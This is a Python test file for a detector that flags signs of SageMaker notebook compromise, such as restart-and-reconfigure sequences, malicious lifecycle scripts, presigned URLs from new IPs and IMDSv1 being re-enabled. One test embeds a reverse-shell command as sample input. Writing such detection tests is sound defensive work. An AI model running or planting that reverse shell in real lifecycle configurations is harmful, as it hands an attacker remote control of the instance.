"""sagemaker.notebook_compromise: restart sequences, lifecycle links, presigned-URL baselines, access settings."""

from __future__ import annotations

import base64
import copy
import uuid
from typing import Any

from aidr.config import AidrConfig
from aidr.findings.model import Finding
from aidr_cli.pipeline import run_records
from aidr_cli.template import load_router

from tests.conftest import FIXTURES, load_json

DETECTOR = "sagemaker.notebook_compromise"
ROUTER = load_router()


def _case(name: str, polarity: str = "positive") -> list[dict[str, Any]]:
    return copy.deepcopy(load_json(FIXTURES / DETECTOR / polarity / f"{name}.json")["records"])


def _run(records: list[dict[str, Any]], config: AidrConfig | None = None) -> list[Finding]:
    findings, _ = run_records(records, config, ROUTER)
    return [f for f in findings if f.detector == DETECTOR]


def _at(rec: dict[str, Any], time: str, tag: str) -> dict[str, Any]:
    rec = copy.deepcopy(rec)
    rec["eventTime"] = time
    rec["eventID"] = str(uuid.uuid5(uuid.NAMESPACE_URL, f"nb-test/{tag}"))
    return rec


def test_sequence_needs_all_three_stages_in_order_within_the_window() -> None:
    stop, update, start = _case("stop_attach_lifecycle_start")
    assert not _run([stop, update])
    assert not _run([update, _at(stop, "2026-03-04T09:10:00Z", "late-stop"), _at(start, "2026-03-04T09:11:00Z", "s")])
    assert not _run([stop, update, _at(start, "2026-03-04T16:00:00Z", "slow-start")])  # 7 hours later
    [finding] = _run([stop, update, start])
    assert set(finding.event_ids) == {stop["eventID"], update["eventID"], start["eventID"]}
    assert finding.evidence["lifecycle_config"] == "pandas-setup"


def test_sequence_with_a_malicious_script_is_high() -> None:
    [config] = _case("lifecycle_config_with_reverse_shell")
    config["eventTime"] = "2026-03-04T08:00:00Z"
    stop, update, start = _case("stop_attach_lifecycle_start")
    findings = {f.title: f for f in _run([config, stop, update, start])}
    assert findings["SageMaker notebook stopped, reconfigured and restarted"].severity == "high"


def test_updating_an_attached_lifecycle_config_is_the_update_step() -> None:
    stop, attach, start = _case("stop_attach_lifecycle_start")
    [update_cfg] = _case("lifecycle_config_steals_credentials_and_mines")
    attach = _at(attach, "2026-03-03T09:00:00Z", "attach-yesterday")  # attached the day before
    update_cfg["requestParameters"]["notebookInstanceLifecycleConfigName"] = "pandas-setup"
    update_cfg["eventTime"] = "2026-03-04T09:02:00Z"
    sequence = [f for f in _run([attach, stop, update_cfg, start]) if "restarted" in f.title]
    assert [f.severity for f in sequence] == ["high"]
    assert update_cfg["eventID"] in sequence[0].event_ids


def test_presigned_url_baseline_and_non_ip_sources() -> None:
    start, url_known, url_new = _case("presigned_url_from_new_ip")
    assert not _run([url_new])  # nothing known yet: the first address is the baseline
    url_new["sourceIPAddress"] = "sagemaker.amazonaws.com"
    assert not _run([start, url_known, url_new])


def test_defaults_on_create_are_low_and_trusted_root_change_lower() -> None:
    [locked] = _case("locked_down_notebook_created", "negative")
    for key in ("directInternetAccess", "rootAccess", "subnetId"):
        del locked["requestParameters"][key]
    [finding] = _run([locked])
    assert finding.severity == "low" and "outside any VPC" in finding.description
    [root] = _case("root_access_re_enabled")
    trusted = AidrConfig(trusted_principals=["arn:aws:iam::111122223333:user/dev-jsmith"])
    assert [f.severity for f in _run([root], trusted)] == ["low"]


def test_create_with_a_malicious_lifecycle_config_is_raised() -> None:
    [config] = _case("lifecycle_config_with_reverse_shell")
    [locked] = _case("locked_down_notebook_created", "negative")
    locked["eventTime"] = "2026-03-04T09:30:00Z"
    locked["requestParameters"].update(directInternetAccess="Enabled", rootAccess="Enabled",
                                       lifecycleConfigName="pandas-setup")
    access = [f for f in _run([config, locked]) if f.title == "SageMaker notebook instance exposed"]
    assert [f.severity for f in access] == ["high"]


def test_trusted_author_of_a_malicious_script_is_one_step_lower() -> None:
    [config] = _case("lifecycle_config_with_reverse_shell")
    trusted = AidrConfig(trusted_principals=["arn:aws:iam::111122223333:user/dev-jsmith"])
    [finding] = _run([config], trusted)
    assert finding.severity == "medium" and finding.evidence["trusted_principal"] is True


def test_the_latest_script_version_decides() -> None:
    [bad] = _case("lifecycle_config_with_reverse_shell")
    [good] = _case("auto_stop_lifecycle_script", "negative")
    good.update(eventName="UpdateNotebookInstanceLifecycleConfig", eventTime="2026-03-04T08:30:00Z")
    good["requestParameters"]["notebookInstanceLifecycleConfigName"] = "pandas-setup"
    bad["eventTime"] = "2026-03-04T08:00:00Z"
    stop, update, start = _case("stop_attach_lifecycle_start")
    sequence = [f for f in _run([bad, good, stop, update, start]) if "restarted" in f.title]
    assert [f.severity for f in sequence] == ["medium"]  # the reverse shell was replaced before the restart


def _studio_config(script: str) -> dict[str, Any]:
    """CreateStudioLifecycleConfig (API reference): one base64 script in studioLifecycleConfigContent."""
    [rec] = _case("lifecycle_config_with_reverse_shell")
    rec["eventName"] = "CreateStudioLifecycleConfig"
    rec["requestParameters"] = {"studioLifecycleConfigName": "jl-setup", "studioLifecycleConfigAppType": "JupyterLab",
                                "studioLifecycleConfigContent": base64.b64encode(script.encode()).decode()}
    rec["responseElements"] = {"studioLifecycleConfigArn":
                               "arn:aws:sagemaker:us-east-1:111122223333:studio-lifecycle-config/jl-setup"}
    return rec


def test_studio_lifecycle_config_script_is_scored() -> None:
    [finding] = _run([_studio_config("nohup bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 &")])
    assert finding.severity == "high" and finding.evidence["indicators"] == ["reverse_shell"]
    assert [r.type for r in finding.resources] == ["AWS::SageMaker::StudioLifecycleConfig"]
    assert finding.resources[0].id.endswith(":studio-lifecycle-config/jl-setup")
    assert "JupyterLab" in finding.description
    assert not _run([_studio_config("pip install --quiet jupyterlab-lsp")])


def test_presigned_studio_domain_url_from_a_new_ip() -> None:
    """CreatePresignedDomainUrl signs its holder in to Studio as the user profile, like a notebook URL."""
    start, url_known, url_new = _case("presigned_url_from_new_ip")
    domain_new = copy.deepcopy(url_new)
    domain_new["eventName"] = "CreatePresignedDomainUrl"
    domain_new["requestParameters"] = {"domainId": "d-exampledom01", "userProfileName": "maria",
                                       "sessionExpirationDurationInSeconds": 43200}
    [finding] = _run([start, url_known, domain_new])
    assert finding.severity == "medium" and finding.event_ids == [domain_new["eventID"]]
    assert [r.type for r in finding.resources] == ["AWS::SageMaker::UserProfile"]
    assert finding.resources[0].id.endswith(":user-profile/d-exampledom01/maria")
    domain_known = copy.deepcopy(domain_new)
    domain_known["sourceIPAddress"] = url_known["sourceIPAddress"]
    assert not _run([start, url_known, domain_known])


def test_update_flags_that_change_nothing_or_harden_are_not_a_reconfiguration() -> None:
    """UpdateNotebookInstance: DisassociateLifecycleConfig "set to true to remove" the config (false changes
    nothing), and RootAccess Disabled takes rights away; neither makes a restart suspicious."""
    stop, resize, start = _case("resize_restart", "negative")
    resize["requestParameters"].update(disassociateLifecycleConfig=False, disassociateDefaultCodeRepository=False,
                                       rootAccess="Disabled")
    assert not _run([stop, resize, start])
    resize["requestParameters"]["disassociateLifecycleConfig"] = True
    [finding] = _run([stop, resize, start])
    assert finding.evidence["changed"] == ["disassociateLifecycleConfig"]


def test_imdsv1_allowed_again_on_update() -> None:
    """UpdateNotebookInstance InstanceMetadataServiceConfiguration.MinimumInstanceMetadataServiceVersion "1" lets
    the instance's role credentials be read without a session token again; "2" requires one."""
    [update] = _case("root_access_re_enabled")
    del update["requestParameters"]["rootAccess"]
    update["requestParameters"]["instanceMetadataServiceConfiguration"] = {"minimumInstanceMetadataServiceVersion": "1"}
    [finding] = _run([update])
    assert finding.severity == "medium" and "IMDSv1" in finding.description
    stop, resize, start = _case("resize_restart", "negative")
    resize["requestParameters"] = copy.deepcopy(update["requestParameters"])
    assert "SageMaker notebook stopped, reconfigured and restarted" in {f.title for f in _run([stop, resize, start])}
    resize["requestParameters"]["instanceMetadataServiceConfiguration"]["minimumInstanceMetadataServiceVersion"] = "2"
    assert not _run([stop, resize, start])
